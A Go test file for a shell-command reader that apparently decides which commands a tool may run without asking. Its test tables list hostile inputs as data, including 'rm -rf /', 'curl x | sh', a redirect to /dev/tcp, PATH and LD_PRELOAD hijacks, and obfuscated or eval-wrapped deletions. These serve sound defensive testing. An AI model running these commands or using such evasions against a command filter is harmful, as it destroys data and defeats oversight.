package shell_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/switchyard-dev/switchyard/tool/shell"
)

func texts(r shell.Reading) []string {
	all := make([]string, 0, len(r.Commands))
	for _, c := range r.Commands {
		all = append(all, c.Text)
	}
	return all
}

var clearTexts = []struct {
	text string
	want []string
}{
	{"ls", []string{"ls"}},
	{"  ls   -la  ", []string{"ls -la"}},
	{"ls -la # and why", []string{"ls -la"}},
	{`\ls -la`, []string{"ls -la"}},
	{`l\s`, []string{"ls"}},
	{`'ls' "-la"`, []string{"ls -la"}},
	{`l"s" -l'a'`, []string{"ls -la"}},
	{`""ls`, []string{"ls"}},
	{"l\\\ns -la", []string{"ls -la"}},
	{"git log \\\n  --oneline", []string{"git log --oneline"}},
	{`git commit -m "a b"`, []string{"git commit -m a b"}},
	{`git commit -m 'it is; rm -rf /'`, []string{"git commit -m it is; rm -rf /"}},
	{`echo "a\$b\"c\\d"`, []string{`echo a$b"c\d`}},
	{"git log; rm -rf /", []string{"git log", "rm -rf /"}},
	{"ls & rm x", []string{"ls", "rm x"}},
	{"a && b || c", []string{"a", "b", "c"}},
	{"a | b | c", []string{"a", "b", "c"}},
	{"a\nb\n\nc", []string{"a", "b", "c"}},
	{"(a; b)", []string{"a", "b"}},
	{"{ a; b; }", []string{"a", "b"}},
	{"! a", []string{"a"}},
	{"ls; ls; ls", []string{"ls"}},
	{"if a; then b; elif c; then d; else e; fi", []string{"a", "b", "c", "d", "e"}},
	{"while a; do b; done", []string{"a", "b"}},
	{"until a; do b; done", []string{"a", "b"}},
	{"for i in 1 2; do b x; done", []string{"b x"}},
	{"case x in a|b) c;; *) d;; esac", []string{"c", "d"}},
	{"go test ./... 2>&1", []string{"go test ./..."}},
	{"go test ./... >/dev/null 2>&1", []string{"go test ./..."}},
	{"ls 2>/dev/null </dev/null", []string{"ls"}},
	{"cmd 2>&-", []string{"cmd"}},
	{"NODE_ENV=test yarn test", []string{"yarn test"}},
	{"CI=1 LC_ALL=C GOOS=js go vet", []string{"go vet"}},
	{"x=1", []string{"x=1"}},
	{"x=1; ls", []string{"ls"}},
	{`echo "$HOME" $x ${y}`, []string{`echo "$HOME" $x ${y}`}},
	{"kill $!", []string{"kill $!"}},
	{"echo $((1 + 2))", []string{"echo $((1 + 2))"}},
	{"command -v go", []string{"command -v go"}},
	{"set -euo pipefail; make", []string{"set -euo pipefail", "make"}},
	{"set -x", []string{"set -x"}},
	{"export CI=1", []string{"export CI=1"}},
	{"bash build.sh --fast", []string{"bash build.sh --fast"}},
	{"./run.sh", []string{"./run.sh"}},
	{"find . -name '*.go'", []string{"find . -name *.go"}},
	{"ls *.go a?b [x]", []string{"ls *.go a?b [x]"}},
	{"[ -f go.mod ] && make", []string{"[ -f go.mod ]", "make"}},
	{"[[ -f go.mod ]] && make", []string{"make", "[[ -f go.mod ]]"}},
	{`test "$x" = y`, []string{`test "$x" = y`}},
	{"printf '%s\\n' a", []string{`printf %s\n a`}},
	{"größe über", []string{"größe über"}},
	{"cd web && yarn test", []string{"cd web", "yarn test"}},
	{"awk '{print $1}' f", []string{"awk {print $1} f"}},
	{"git commit -m 'use `x` and $(y)'", []string{"git commit -m use `x` and $(y)"}},
	{"echo 'alias rm=x'", []string{"echo alias rm=x"}},
	{"# nothing", []string{"# nothing"}},
	{"", []string{""}},
}

// Clear texts: every command is known and nothing else happens.
func TestReadClearTexts(t *testing.T) {
	t.Parallel()
	for _, tt := range clearTexts {
		got := shell.Read(tt.text, "/w")
		if !slices.Equal(texts(got), tt.want) || len(got.Opaque) > 0 {
			t.Errorf("%q: %q, opaque %q, want %q", tt.text, texts(got), got.Opaque, tt.want)
		}
	}
}

var opaqueTexts = []struct {
	text string
	want []string // commands or vetoes that must be there
}{
	{"echo $(rm -rf /)", []string{"rm -rf /"}},
	{"echo `rm -rf /`", []string{"rm -rf /"}},
	{"echo \"`rm x`\"", []string{"rm x"}},
	{"echo `echo \\`rm x\\``", []string{"rm x"}},
	{`echo "$(echo "$(rm x)")"`, []string{"rm x"}},
	{"x=$(rm y)", []string{"rm y"}},
	{"x=$(rm y) ls", []string{"rm y", "ls"}},
	{"diff <(a) <(b)", []string{"a", "b"}},
	{"a >(b)", []string{"b"}},
	{"echo ${x:-$(rm y)}", []string{"rm y"}},
	{"echo $(( $(rm y) ))", []string{"rm y"}},
	{"echo ${x:=y}", nil},
	{"echo ${!x}", nil},
	{"echo ${x@P}", nil},
	{"echo ${x[$(rm y)]}", []string{"rm y"}},
	{"echo $((x))", nil},
	{"for i in $(rm y); do ls; done", []string{"rm y", "ls"}},
	{"case $(rm y) in a) ls;; esac", []string{"rm y", "ls"}},
	{"case x in $(rm y)) ls;; esac", []string{"rm y"}},
	{"cat <<EOF\n$(rm y)\nEOF", []string{"rm y", "cat"}},
	{"cat <<'EOF'\n$(rm y)\nEOF", []string{"cat"}},
	{"sh <<EOF\nrm y\nEOF", []string{"sh"}},
	{"sh <<< 'rm y'", []string{"sh"}},
	{"cat <<< x", []string{"cat"}},
	{"ls > out", []string{"ls"}},
	{"ls >> out", []string{"ls"}},
	{"ls 2> out", []string{"ls"}},
	{"ls >| out", []string{"ls"}},
	{"ls &> out", []string{"ls"}},
	{"ls <> out", []string{"ls"}},
	{"sort < in", []string{"sort"}},
	{"> out", nil},
	{"ls >&out", []string{"ls"}},
	{"ls > $x", []string{"ls"}},
	{"{ ls; } > out", []string{"ls"}},
	{"for i in a; do ls; done > out", []string{"ls"}},
	{"ls > /dev/tcp/1.2.3.4/80", []string{"ls"}},
	{"$x", nil},
	{"$x y", nil},
	{"${x}y", nil},
	{"ls${IFS}-la", nil},
	{"$(echo rm) y", []string{"echo rm"}},
	{"r?", nil},
	{"/bin/r* y", nil},
	{"~/bin/x", nil},
	{"'git log'", nil},
	{"'' x", nil},
	{`$'\x72\x6d' y`, []string{"rm y"}},
	{"$'rm' y", []string{"rm y"}},
	{`$"rm" y`, []string{"rm y"}},
	{"git $x", nil},
	{`git "$x"`, nil},
	{"rm $x", nil},
	{"x=push; git $x", nil},
	{"git {push,--force}", nil},
	{"{rm,-rf,/}", nil},
	{"echo {1..9}", nil},
	{"echo !(a)", nil},
	{"eval 'rm y'", []string{"rm y"}},
	{"eval rm y", []string{"rm y"}},
	{"eval \"eval 'rm y'\"", []string{"rm y"}},
	{`\eval rm y`, []string{"rm y"}},
	{"e'val' rm y", []string{"rm y"}},
	{"exec rm y", []string{"rm y"}},
	{". ./x", nil},
	{"source x", nil},
	{"command rm y", []string{"rm y"}},
	{"command", nil},
	{"builtin eval rm y", []string{"eval rm y", "rm y"}},
	{"env rm y", []string{"rm y"}},
	{"env X=1 -i rm y", []string{"rm y"}},
	{"/usr/bin/env rm y", []string{"rm y"}},
	{"sudo -u root rm -rf /", []string{"rm -rf /"}},
	{"sudo /bin/rm -rf /", []string{"/bin/rm -rf /", "rm -rf /"}},
	{"nohup rm y &", []string{"rm y"}},
	{"time rm y", []string{"rm y"}},
	{"time -p rm y", []string{"rm y"}},
	{"timeout 5 rm y", []string{"rm y"}},
	{"nice -n 5 rm y", []string{"rm y"}},
	{"ls | xargs rm", []string{"ls", "rm"}},
	{"find . -exec rm {} +", []string{"rm {} +"}},
	{"=rm y", nil},
	{"repeat 3 rm y", []string{"rm y"}},
	{"find . -exec rm {} \\;", []string{"rm {} ;"}},
	{"find . -delete", []string{"find . -delete"}},
	{"fd x --exec=rm", nil},
	{"rg --pre=rm x", nil},
	{"sh -c 'rm y'", []string{"rm y"}},
	{"bash -c 'a; rm y'", []string{"a", "rm y"}},
	{"bash -lc 'sh -c \"rm y\"'", []string{"rm y"}},
	{"/bin/sh -c 'rm y'", []string{"rm y"}},
	{"sh", nil},
	{"curl x | sh", []string{"curl x", "sh"}},
	{"bash -s < x", nil},
	{"bash $x", nil},
	{"busybox rm y", []string{"rm y"}},
	{"trap 'rm y' EXIT", nil},
	{"alias ls='rm -rf /'; ls", []string{"ls"}},
	{"hash -p /x ls", nil},
	{"enable -n echo", nil},
	{"shopt -s expand_aliases", nil},
	{"set -- rm y", nil},
	{"set -a", nil},
	{"read x", nil},
	{"let x=1", nil},
	{"unset PATH", nil},
	{"printf -v x y", nil},
	{"test -v 'a[$(rm y)]'", nil},
	{"b='a[$(rm y)]'", nil},
	{"for b in 'a[`rm y`]'; do ls; done", nil},
	{"ls() { rm -rf /; }; ls", []string{"rm -rf /", "ls"}},
	{"function ls { rm -rf /; }; ls", []string{"rm -rf /", "ls"}},
	{"PATH=/evil ls", []string{"ls"}},
	{"PATH=/evil; ls", []string{"ls"}},
	{"path=/evil; ls", []string{"ls"}},
	{"export PATH=/evil", nil},
	{"declare -x PATH=/evil", nil},
	{"export PATH", nil},
	{"IFS=x; ls", nil},
	{"LD_PRELOAD=./x ls", []string{"ls"}},
	{"GIT_PAGER='rm y' git log", []string{"git log"}},
	{"npm_config_shell=/x npm test", []string{"npm test"}},
	{"for PATH in /evil; do ls; done", []string{"ls"}},
	{"x+=1", nil},
	{"a=(1 2)", nil},
	{"a[0]=1", nil},
	{"((x=1))", nil},
	{"[[ $x -eq 1 ]]", nil},
	{"[[ a =~ (b) ]]", nil},
	{"[[ -n x || rm y ]]", nil},
	{"a |& b", []string{"a", "b"}},
	{"coproc rm y", []string{"rm y"}},
	{"select x in a; do rm y; done", []string{"rm y"}},
	{"for ((;;)); do rm y; done", []string{"rm y"}},
	{"ls\u200b", nil},
	{"git\u00a0log", nil},
	{"ls \u202etxt", nil},
	{"ls \x1b[2K", nil},
	{"ls \xff", nil},
	{"ls\x00", nil},
	{"git log # \\\nrm y", []string{"rm y"}},
	{"git log #\\\nrm y", []string{"rm y"}},
	{"if true; then", nil},
	{"ls; rm y; )", []string{"ls", "rm y"}},
	{"echo 'a", nil},
	{"cd x; for i in 1; do cd ..; done", []string{"cd ..", "cd x"}},
	{"cd -", nil},
	{"cd $x && rm y", []string{"rm y"}},
	{"pushd x", nil},
	{"rm */x", nil},
}

// Opaque texts: each must make the server ask, and each of the commands that
// can be seen must be seen.
func TestReadOpaqueTexts(t *testing.T) {
	t.Parallel()
	for _, tt := range opaqueTexts {
		got := shell.Read(tt.text, "/w")
		if len(got.Opaque) == 0 {
			t.Errorf("%q is not opaque: %+v", tt.text, got)
		}
		seen := append(texts(got), got.Veto...)
		for _, w := range tt.want {
			if !slices.Contains(seen, w) {
				t.Errorf("%q: no %q in %q", tt.text, w, seen)
			}
		}
	}
}

func TestReadSaysWhichCommandsAreWhole(t *testing.T) {
	t.Parallel()
	r := shell.Read("ls -l && sudo rm x; go test ./... > out; git $x", "/w")
	for _, c := range r.Commands {
		want := !strings.HasPrefix(c.Text, "sudo") && !strings.HasPrefix(c.Text, "git")
		if c.Plain != want {
			t.Errorf("%+v", c)
		}
	}
}

var pathTexts = []struct {
	text string
	want []string // a trailing slash marks a directory
}{
	{"rm x", []string{"/w/x"}},
	{"rm -rf /etc/x ../y", []string{"/etc/x", "/w/../y"}},
	{"cp -t /a b", []string{"/a", "/w/b"}},
	{"cp -t/a b", []string{"/a", "/w/b"}},
	{"cp --target-directory=/a b", []string{"/a", "/w/b"}},
	{"cat ~/x ~root/y", []string{"~/x", "~root/y"}},
	{"cat '~/x'", []string{"/w/~/x"}},
	{`rm \~`, []string{"/w/~"}},
	{"cat /etc/*", []string{"/etc/ /"}},
	{"cat *.go", []string{"/w/ /"}},
	{"/bin/rm /x", []string{"/x"}},
	{"sudo rm /x", []string{"/x"}},
	{"sh -c 'rm /x'", []string{"/x"}},
	{"ls /etc", nil},
	{"ls > /tmp/out", []string{"/tmp/out"}},
	{"ls < ~/in", []string{"~/in"}},
	{"ls > /dev/null", nil},
	{"cd a && rm b", []string{"/w/a/", "/w/a/b"}},
	{"cd a; rm b", []string{"/w/a/", "/w/a/b", "/w/b"}},
	{"cd a || rm b", []string{"/w/a/", "/w/b"}},
	{"(cd a && rm b); rm c", []string{"/w/a/", "/w/a/b", "/w/c"}},
	{"cd a && cd .. && rm b", []string{"/w/a/", "/w/a/../", "/w/a/../b"}},
	{"! cd a && rm b", []string{"/w/a/", "/w/b"}},
	{"if cd a; then rm b; else rm c; fi", []string{"/w/a/", "/w/a/b", "/w/c"}},
	{"cd a & rm b", []string{"/w/a/", "/w/b"}},
	{"cd a | rm b", []string{"/w/a/", "/w/b"}},
	{"cd /a && rm b", []string{"/a/", "/a/b"}},
	{"cd -- a && rm b", []string{"/w/a/", "/w/a/b"}},
	{"cd", []string{"~/"}},
	{"cd && rm b", []string{"~/"}},
	{"chmod 755 /x", []string{"/w/755", "/x"}},
	{"touch '/a b'", []string{"/a b"}},
}

func TestReadPaths(t *testing.T) {
	t.Parallel()
	for _, tt := range pathTexts {
		got := []string{}
		for _, p := range shell.Read(tt.text, "/w").Paths {
			switch {
			case p.Dir && strings.HasSuffix(p.Name, "/"):
				got = append(got, p.Name+" /")
			case p.Dir:
				got = append(got, p.Name+"/")
			default:
				got = append(got, p.Name)
			}
		}
		for _, w := range tt.want {
			if !slices.Contains(got, w) {
				t.Errorf("%q: no %q in %q", tt.text, w, got)
			}
		}
		if len(tt.want) != len(got) {
			t.Errorf("%q: %q, want %q", tt.text, got, tt.want)
		}
	}
}

func TestReadEndsOnDeepText(t *testing.T) {
	t.Parallel()
	for _, s := range []string{"$(", "`", "((", "{ ", "eval ", "sudo ", "sh -c '", "if ", "<(", "${x:-"} {
		if r := shell.Read(strings.Repeat(s, 16384/len(s)), "/w"); len(r.Opaque) == 0 {
			t.Errorf("%q repeated is not opaque", s)
		}
	}
	var many strings.Builder
	for range 500 {
		many.WriteString("cd a; ")
	}
	if r := shell.Read(many.String()+"rm b", "/w"); len(r.Opaque) == 0 {
		t.Error("too many places are not opaque")
	}
}

// Whatever the text, there is something to ask about, and a text that is not
// opaque has no character by which more could be hidden.
func FuzzRead(f *testing.F) {
	for _, s := range []string{
		"ls", "git log; rm -rf /", "echo $(a `b`)", "cd a && rm b", "x=1 y", "a <<E\nb\nE\n", "sh -c 'a; b'", "f() { a; }",
		"[[ a ]] || b", "case a in b) c;; esac", "$'a' \"b$c\"", "a >b 2>&1 &", "sudo -u a b c", "{ a; }", "a{b,c}", "~/a *.b", "a\\\nb",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		r := shell.Read(text, "/w")
		if len(r.Commands) == 0 {
			t.Fatal("no command")
		}
		if len(r.Opaque) > 0 {
			return
		}
		if strings.ContainsAny(text, ";&|\n") || strings.ContainsAny(text, "'\"\\#") {
			return // more than one command, or quoting
		}
		if strings.Contains(text, "`") || strings.Contains(text, "<(") || strings.Contains(text, ">(") || strings.Contains(strings.ReplaceAll(text, "$((", ""), "$(") {
			t.Fatalf("%q is not opaque: %+v", text, r)
		}
		words := strings.Fields(text)
		if len(words) > 0 && len(words[0]) > 1 && words[0][0] == '$' && strings.IndexByte("abcxyzABCXYZ_{", words[0][1]) >= 0 {
			t.Fatalf("%q is not opaque: %+v", text, r)
		}
	})
}
